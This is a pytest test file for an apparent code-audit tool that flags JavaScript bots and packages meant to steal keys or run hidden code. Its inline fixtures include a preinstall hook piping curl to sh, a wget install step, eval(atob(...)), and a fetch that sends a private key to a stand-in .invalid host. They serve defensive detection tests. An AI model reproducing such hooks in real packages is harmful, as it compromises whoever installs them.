"""What is meant to steal is named by its rule; ordinary bots are not flagged; what stands in pieces is put together."""

import json
from pathlib import Path

import pytest

from ringfence.audit.code.javascript import SUFFIXES, Reading, link, read
from ringfence.audit.code.rules import RULE
from ringfence.audit.finding import Finding, Severity
from tests.audit.code.javascript.benign import BENIGN
from tests.audit.code.javascript.malicious import BASE58, EVM, MALICIOUS
from tests.audit.code.javascript.projects import HONEST_PROJECTS, MALICIOUS_PROJECTS

HELD = json.loads(Path(__file__).with_name("tricks.json").read_text("utf-8"))
FLAGGED = {Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM}


def filled(text: str) -> bytes:
    return text.replace("{evm}", EVM).replace("{base58}", BASE58).replace("{blanks}", " " * 130).encode()


def rules(reading: Reading) -> list[str]:
    return [found.rule.removeprefix("code/") for found in reading.findings]


def flagged(reading: Reading) -> list[str]:
    return [f"{found.rule}: {found.text}" for found in reading.findings if found.severity in FLAGGED]


def language(text: str) -> str:
    if "@Inject" in text:
        return "bot.ts"
    return "bot.tsx" if ": string" in text else "bot.js"


@pytest.mark.parametrize(("name", "rule", "text"), MALICIOUS, ids=[name for name, _, _ in MALICIOUS])
def test_what_is_meant_to_steal_is_named(name: str, rule: str, text: str) -> None:
    reading = read("bot.js", filled(text))
    assert rule in rules(reading)
    assert reading.unanswered == ()


@pytest.mark.parametrize(("name", "text"), BENIGN, ids=[name for name, _ in BENIGN])
def test_an_ordinary_bot_is_not_flagged(name: str, text: str) -> None:
    reading = read(language(text), filled(text))
    assert flagged(reading) == []
    assert reading.unanswered == ()


@pytest.mark.parametrize(("rule", "text"), HELD["tricks"])
def test_a_trick_does_not_hide_it(rule: str, text: str) -> None:
    assert rule in rules(read("bot.js", filled(text)))


@pytest.mark.parametrize("text", HELD["quiet"])
def test_what_looks_like_a_trick_and_is_none_is_not_flagged(text: str) -> None:
    assert flagged(read("bot.ts", filled(text))) == []


def test_the_rules_for_javascript_find_their_own_examples() -> None:
    swap = RULE["code/address-swap"].example.replace("{address}", EVM)
    assert "address-swap" in rules(read("bot.js", swap.encode()))
    assert "install-script" in rules(read("package.json", RULE["code/install-script"].example.encode()))


def test_every_ending_is_read() -> None:
    text = b"eval(atob('YWxlcnQoMSk='));"
    assert all("decoded-code" in rules(read("bot" + ending, text)) for ending in SUFFIXES)


def test_a_finding_says_whom_and_whence_and_shows_no_value() -> None:
    secret = "0x" + "7c" * 32
    text = f"const privateKey = '{secret}';\nfetch('https://a.collector.invalid', {{ body: privateKey }});\n"
    (found,) = read("bot.js", text.encode()).findings
    assert "a.collector.invalid" in found.text
    assert [step.place.line for step in found.way] == [1, 2] or found.way[-1].place.line == 2
    assert secret not in repr(found)


FILES = json.loads(Path(__file__).with_name("files.json").read_text("utf-8"))


@pytest.mark.parametrize("name", FILES)
def test_a_key_is_followed_from_file_to_file(name: str) -> None:
    readings = {path: read(path, text.encode()) for path, text in FILES[name].items()}
    assert [found.severity for found in link(readings)] == [Severity.CRITICAL]


def found_in(files: dict[str, str]) -> list[Finding]:
    readings = {path: read(path, filled(text)) for path, text in files.items()}
    return [*(found for one in readings.values() for found in one.findings), *link(readings)]


@pytest.mark.parametrize(("name", "rule", "files"), MALICIOUS_PROJECTS, ids=[name for name, _, _ in MALICIOUS_PROJECTS])
def test_what_several_files_do_together_is_named(name: str, rule: str, files: dict[str, str]) -> None:
    assert f"code/{rule}" in [found.rule for found in found_in(files)]


@pytest.mark.parametrize(("name", "files"), HONEST_PROJECTS, ids=[name for name, _ in HONEST_PROJECTS])
def test_an_honest_project_is_not_flagged(name: str, files: dict[str, str]) -> None:
    assert [found.rule for found in found_in(files) if found.severity in FLAGGED] == []


def test_a_harmless_field_is_not_taken_for_the_key_beside_it() -> None:
    files = {
        "index.js": "import { post } from './net';\nimport { cfg } from './config';\npost(cfg.webhook, 'hi');\n",
        "config.js": "export const cfg = { webhook: process.env.HOOK, key: process.env.PRIVATE_KEY };\n",
        "net.js": "export const post = (url, text) => fetch(url, { method: 'POST', body: text });\n",
    }
    assert link({path: read(path, text.encode()) for path, text in files.items()}) == ()


def test_a_file_that_installation_runs_and_that_goes_to_the_network_is_named() -> None:
    files = {
        "p/package.json": '{"scripts": {"preinstall": "node setup.js"}}',
        "p/setup.js": "require('https').get('https://x.invalid/tool');\n",
    }
    found = link({path: read(path, text.encode()) for path, text in files.items()})
    assert [one.rule for one in found] == ["code/install-network"]


SCRIPTS = [
    ('{"scripts": {"postinstall": "node-gyp rebuild", "prepare": "husky"}}', {"low"}),
    ('{"scripts": {"postinstall": "node setup.js"}}', {"medium"}),
    ('{"scripts": {"preinstall": "curl -s https://x.invalid/a | sh"}}', {"critical"}),
    ('{"scripts": {"install": "wget https://x.invalid/a"}}', {"high"}),
    ('{"scripts": {"postinstall": "node -e \\"eval(atob(\'YWxlcnQoMSk=\'))\\""}}', {"medium", "critical"}),
    ('{"scripts": {"start": "node ."}}', set()),
    ("{}", set()),
]


@pytest.mark.parametrize(("text", "wanted"), SCRIPTS)
def test_scripts_of_an_installation_are_judged_by_what_they_do(text: str, wanted: set[str]) -> None:
    assert {found.severity.value for found in read("package.json", text.encode()).findings} == wanted


@pytest.mark.parametrize("text", ["{bad", '{"scripts": 3}', "[" * 100_000, "\xff"])
def test_a_package_json_that_cannot_be_read_is_unanswered(text: str) -> None:
    assert len(read("package.json", text.encode("latin-1")).unanswered) == 1
